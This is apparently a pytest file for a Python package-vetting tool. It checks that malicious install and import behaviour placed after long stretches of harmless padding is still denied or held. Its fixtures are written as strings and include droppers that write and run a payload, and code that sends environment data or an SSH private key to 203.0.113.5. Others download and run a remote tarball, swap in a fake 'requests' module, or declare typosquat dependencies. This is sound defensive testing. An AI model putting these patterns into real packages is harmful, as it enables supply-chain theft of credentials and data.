"""What runs, padded past the archive-wide and cross-file bounds (issue 16; ADR 0189).

ADR 0187 padded the walk's own tables past their bounds; these pad what the passes around
the walk read a bounded number of: entry points a host calls (32 per archive) and hooks of
a plugin module (16), files whose written text a module keeps (16), modules an import
brings the files of (16), ``setup.py``'s install commands (64), items of a command's list
(16), dependencies judged (400 strings, 200 per source before that), sections of a logging
file (32), methods kept in names (256), and the functions of a module put in place of a
library's (16). Each dropped what came past the bound silently, so the payload written last
was never read: allowed, and denied or held without the padding. Now what may act is read
first, and one that may act left past a bound holds; harmless padding past it still drops
silently, and the near-misses a real package writes stay allowed. Every sample is inert:
vetting only reads files."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages import plugins
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import wheel
from tests.unit.imports.packages.adversary import (
    PAYLOAD,
    PY,
    RUN,
    verdict_cases,
    vet_package,
)

INFO = "evpkg-1.0.dist-info"
FINALIZE = "[setuptools.finalize_distribution_options]\n"
HOOK = f"import os\ndef finalize(dist):\n    {RUN}\n"


def tidy(count: int) -> str:
    """A module of ``count`` harmless finalize functions."""
    return "".join(f"def f{i}(dist):\n    return dist\n" for i in range(count)) or "x = 1\n"


def targets_first(count: int, *, hook: bool = True) -> dict[str, str]:
    """``count`` harmless entry points a build calls, then one whose target runs a command."""
    pad = "".join(f"t{i} = evpkg.tidy:f{i}\n" for i in range(count))
    last = "ev = evpkg.plug:finalize\n" if hook else ""
    return {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/tidy.py": tidy(count),
        "evpkg/plug.py": HOOK,
        f"{INFO}/entry_points.txt": f"{FINALIZE}{pad}{last}",
    }


def hooks_first(count: int, *, hook: bool = True) -> dict[str, str]:
    """A pytest plugin of ``count`` harmless hooks, then one that runs a command."""
    pad = "".join(f"def pytest_h{i}(config):\n    return config\n" for i in range(count))
    last = f"def pytest_configure(config):\n    {RUN}\n" if hook else ""
    return {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/plug.py": f"import os\n{pad}{last}",
        f"{INFO}/entry_points.txt": "[pytest11]\nev = evpkg.plug\n",
    }


def setup_declaring(entry_points: str, files: int) -> dict[str, str]:
    return {
        "setup.py": "from setuptools import setup\n" + entry_points,
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/tidy.py": tidy(files),
        "evpkg/plug.py": HOOK,
    }


def files_first(count: int, then: str) -> str:
    """``count`` harmless files written with known text, then ``then``."""
    pad = "".join(f"open('/tmp/evpkg_{i}.cfg', 'w').write('x = {i}')\n" for i in range(count))
    return f"import subprocess, sys\n{pad}{then}"


DROP = f"open({PY!r}, 'w').write({PAYLOAD!r})\nsubprocess.call([sys.executable, {PY!r}])\n"
RUN_HELPER = (
    "import subprocess, sys\nfrom setuptools import setup\nimport helper\n"
    "subprocess.call({command})\nsetup(name='evpkg')\n"
)


WRITER = f"P = {PY!r}\nopen(P, 'w').write({PAYLOAD!r})\n"


def helper_run(command: str, helper: str = WRITER) -> dict[str, str]:
    """``setup.py`` imports ``helper`` (the payload's writer) and runs ``command``."""
    return {
        "setup.py": RUN_HELPER.format(command=command),
        "helper.py": helper,
        "evpkg/__init__.py": "",
    }


def modules_first(count: int, pad: str = "x = 1\n") -> dict[str, str]:
    """``from . import m0, …, helper``: ``count`` harmless modules of ``pad`` before the
    writer."""
    files = {f"evpkg/m{i}.py": pad for i in range(count)}
    names = "".join(f"m{i}, " for i in range(count))
    files["evpkg/__init__.py"] = (
        f"import subprocess, sys\nfrom . import {names}helper\n"
        f"subprocess.call([sys.executable, {PY!r}])\n"
    )
    files["evpkg/helper.py"] = f"P = {PY!r}\nwith open(P, 'w') as f:\n    f.write({PAYLOAD!r})\n"
    return files


def commands_first(count: int) -> dict[str, str]:
    """``count`` harmless install commands, then one that writes the payload, which the
    package's import runs."""
    pad = "".join(
        f"class C{i}(install):\n    def run(self):\n        install.run(self)\n"
        for i in range(count)
    )
    setups = "".join(f"setup(name='evpkg', cmdclass={{'install': C{i}}})\n" for i in range(count))
    return {
        "setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
        f"from setuptools.command.install import install\n{pad}class I(install):\n"
        f"    def run(self):\n        open({PY!r}, 'w').write({PAYLOAD!r})\n"
        f"        install.run(self)\n{setups}setup(name='evpkg', cmdclass={{'install': I}})\n",
        "evpkg/__init__.py": f"import subprocess, sys\nsubprocess.call([sys.executable, {PY!r}])\n",
    }


def setup_listing(keyword: str, count: int, last: str) -> dict[str, str]:
    pad = "".join(f"'dep{i}', " for i in range(count))
    return {
        "setup.py": "from setuptools import setup\n"
        f"setup(name='evpkg', {keyword}=[{pad}{last!r}])\n",
        "evpkg/__init__.py": "",
    }


def log_sections_first(count: int, handler: str) -> dict[str, str]:
    """A logging file of ``count`` formatter sections, then a handler of ``handler``; the
    package logs its environment through it."""
    pad = "".join(f"[formatter_f{i}]\nformat=%(message)s\n" for i in range(count))
    config = (
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
        f"{pad}[logger_root]\nlevel=INFO\nhandlers=h\n[handler_h]\n{handler}"
    )
    return {
        "evpkg/__init__.py": "import logging.config, os\nlogging.config.fileConfig("
        "os.path.join(os.path.dirname(__file__), 'log.ini'))\n"
        "logging.getLogger().info(os.environ)\n",
        "evpkg/log.ini": config,
    }


SOCKET = "class=handlers.SocketHandler\nargs=('203.0.113.5', 9020)\n"


def methods_first(pad: str, then: str) -> dict[str, str]:
    """``pad`` (300 methods kept in names), then ``then``."""
    return {"evpkg/__init__.py": f"import subprocess, sys\n{pad}{then}"}


WRITES_FIRST = "".join(
    f"g{i} = open('/tmp/evpkg_{i}', 'w')\nw{i} = g{i}.write\n" for i in range(300)
)
GETS_FIRST = "import configparser\nc = configparser.ConfigParser()\n" + "".join(
    f"r{i} = c.get\n" for i in range(300)
)
WRITE_KEPT = (
    f"f = open({PY!r}, 'w')\nw = f.write\nw({PAYLOAD!r})\nf.close()\n"
    f"subprocess.call([sys.executable, {PY!r}])\n"
)
SEND = "urllib.request.urlopen('http://203.0.113.5/c', data=repr((a, k)).encode())"


def impostor_class(count: int, last: str) -> dict[str, str]:
    """A class of ``count`` harmless methods, then ``get`` doing ``last``, put in place of
    ``requests``."""
    pad = "".join(f"    def h{i}(self, *a, **k):\n        return a\n" for i in range(count))
    return {
        "evpkg/__init__.py": f"import sys, urllib.request\nclass Fake:\n{pad}"
        f"    def get(self, *a, **k):\n        {last}\nsys.modules['requests'] = Fake()\n"
    }


def impostor_module(count: int) -> dict[str, str]:
    pad = "".join(f"def h{i}(*a, **k):\n    return a\n" for i in range(count))
    return {
        "evpkg/__init__.py": "import sys\nfrom . import fake\nsys.modules['requests'] = fake\n",
        "evpkg/fake.py": f"import urllib.request\n{pad}def get(*a, **k):\n    {SEND}\n",
    }


def impostors_updated(count: int) -> dict[str, str]:
    pad = "".join(f"'mod{i}': h, " for i in range(count))
    return {
        "evpkg/__init__.py": "import sys, urllib.request\ndef h(*a, **k):\n    return a\n"
        f"def bad(*a, **k):\n    {SEND}\nsys.modules.update({{{pad}'requests': bad}})\n"
    }


TWENTY_FLAGS = "'-u', " * 20


def tools_first(count: int) -> dict[str, str]:
    """``count`` network tools started first, then one given a private key on its stdin."""
    pad = "".join(
        f"p{i} = subprocess.Popen(['nc', 'localhost', '{i}'], stdin=subprocess.PIPE)\n"
        for i in range(count)
    )
    return {
        "evpkg/__init__.py": f"import os, subprocess\n{pad}"
        "p = subprocess.Popen(['nc', '203.0.113.5', '9'], stdin=subprocess.PIPE)\n"
        "p.communicate(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
    }


def bases_first(count: int, hook: str = "import reqeusts") -> dict[str, str]:
    """A class naming ``count`` harmless bases before one whose ``__init_subclass__`` runs
    ``hook`` (a look-alike import holds where it runs on import)."""
    pad = "".join(f"class M{i}:\n    pass\n" for i in range(count))
    bases = "".join(f"M{i}, " for i in range(count))
    return {
        "evpkg/__init__.py": f"class A:\n    def __init_subclass__(cls, **kw):\n        {hook}\n"
        f"{pad}class B({bases}A):\n    pass\n"
    }


DENIED: dict[str, Mapping[str, str]] = {
    "payload-written-after-16-files": {"evpkg/__init__.py": files_first(20, DROP)},
    "payload-written-after-16-files-on-install": helper_run(
        "[sys.executable, helper.P]",
        helper=files_first(20, f"P = {PY!r}\nopen(P, 'w').write({PAYLOAD!r})\n"),
    ),
    "writer-imported-after-16-modules": modules_first(20),
    "install-command-after-64": commands_first(70),
    "command-of-20-flags": helper_run(f"[sys.executable, {TWENTY_FLAGS}helper.P]"),
    "interpreter-flag-with-a-value": helper_run("[sys.executable, '-W', 'ignore', helper.P]"),
    "socket-handler-after-32-sections": log_sections_first(40, SOCKET),
    "impostor-class-after-16-methods": impostor_class(40, SEND),
    "impostor-module-after-16-functions": impostor_module(40),
    "impostor-after-16-entries-of-an-update": impostors_updated(40),
    "secret-to-a-tool-started-after-64": tools_first(70),
}
HELD: dict[str, Mapping[str, str]] = {
    "plugin-after-32-entry-points": targets_first(40),
    "plugin-after-32-lines-of-setup-cfg": {
        **setup_declaring("setup()\n", 40),
        "setup.cfg": "[options.entry_points]\nsetuptools.finalize_distribution_options =\n"
        + "".join(f"    t{i} = evpkg.tidy:f{i}\n" for i in range(40))
        + "    ev = evpkg.plug:finalize\n",
    },
    "plugin-after-32-items-of-setup-py": setup_declaring(
        "setup(entry_points={'setuptools.finalize_distribution_options': ["
        + "".join(f"'t{i} = evpkg.tidy:f{i}', " for i in range(40))
        + "'ev = evpkg.plug:finalize']})\n",
        40,
    ),
    "hook-after-16-hooks": hooks_first(20),
    "plugin-after-5000-console-scripts": {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg/cli.py": "def main():\n    pass\n",
        "evpkg/plug.py": f"import os\ndef pytest_configure(config):\n    {RUN}\n",
        f"{INFO}/entry_points.txt": "[console_scripts]\n"
        + "".join(f"c{i} = evpkg.cli:main\n" for i in range(5100))
        + "[pytest11]\nev = evpkg.plug\n",
    },
    "look-alike-in-a-base-after-16-bases": bases_first(20),
    # Modules whose text names a write, any of which might write what is run.
    "writer-imported-after-16-writing-modules": modules_first(20, "write = None\n"),
    "setup-requires-look-alike-after-400": setup_listing("setup_requires", 450, "setuptoolss"),
    "install-requires-look-alike-after-400": setup_listing("install_requires", 450, "reqeusts"),
    "write-kept-after-256-writes-kept": methods_first(WRITES_FIRST, WRITE_KEPT),
}
ALLOWED: dict[str, Mapping[str, str]] = {
    "many-harmless-entry-points": targets_first(40, hook=False),
    "many-harmless-hooks": hooks_first(20, hook=False),
    "many-files-written": {"evpkg/__init__.py": files_first(20, "")},
    "many-install-requirements": setup_listing("install_requires", 450, "requests"),
    "file-handler-after-many-sections": log_sections_first(
        40, "class=FileHandler\nargs=('evpkg.log',)\n"
    ),
    "write-kept-after-many-getters": methods_first(
        GETS_FIRST, "f = open('/tmp/evpkg.log', 'w')\nw = f.write\nw('started')\n"
    ),
    "impostor-of-many-harmless-methods": impostor_class(40, "return a"),
    "many-harmless-bases": bases_first(20, "pass"),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_what_runs_past_an_archive_bound(files: Mapping[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def requires(count: int, last: str) -> str:
    return "".join(f"Requires-Dist: harmless-dep-{i}\n" for i in range(count)) + last


@pytest.mark.parametrize(
    ("metadata", "expected"),
    [
        pytest.param(requires(450, "Requires-Dist: reqeusts\n"), Outcome.HOLD, id="look-alike"),
        pytest.param(requires(5000, ""), Outcome.HOLD, id="past-4096-names"),
        pytest.param(requires(450, "Requires-Dist: requests\n"), Outcome.ALLOW, id="near-miss"),
    ],
)
def test_a_dependency_declared_past_400_is_judged(metadata: str, expected: Outcome) -> None:
    """A look-alike declared 451st was never judged (strings were read to 200, then 400)."""
    data = wheel("evpkg", "1.0", {"evpkg/__init__.py": "x = 1\n"}, requires=metadata)
    assert vet("evpkg-1.0-py3-none-any.whl", data).verdict is expected


def test_a_download_unpacked_past_256_folders_holds() -> None:
    """Past 256 folders, a file run from the 257th was not known as unpacked: the run was a
    process call, not a dropper. Denied all the same for the download on import; the walk
    now says what it did not keep."""
    fetch = "tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen(U).read())).extractall"
    pad = "".join(f"{fetch}('/tmp/d{i}')\n" for i in range(300))
    text = (
        "import io, subprocess, tarfile, urllib.request\nU = 'http://203.0.113.5/a.tgz'\n"
        f"{pad}{fetch}('/tmp/evil')\nsubprocess.call(['/tmp/evil/run.sh'])\n"
    )
    data = wheel("evpkg", "1.0", {"evpkg/__init__.py": text})
    report = vet("evpkg-1.0-py3-none-any.whl", data)
    assert "analysis-budget" in {f.rule for f in report.findings}


def test_a_plugin_past_the_batch_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the targets read one by one and in a batch, a target whose module may act holds
    (the batch lowered: content no other test vets, vetting memoises by digest)."""
    monkeypatch.setattr(plugins, "MAX_CALLS", 2)
    monkeypatch.setattr(plugins, "MAX_BATCHED", 2)
    files = targets_first(10)  # ten targets in a module that names a sink, then the hook
    files["evpkg/tidy.py"] = "import subprocess\n" + files["evpkg/tidy.py"]
    data = wheel("evpkg", "1.0", {**files, "evpkg/lowered.py": b"x = 1\n"})
    report = vet("evpkg-1.0-py3-none-any.whl", data)
    assert report.verdict is Outcome.HOLD
    assert "analysis-budget" in {f.rule for f in report.findings}
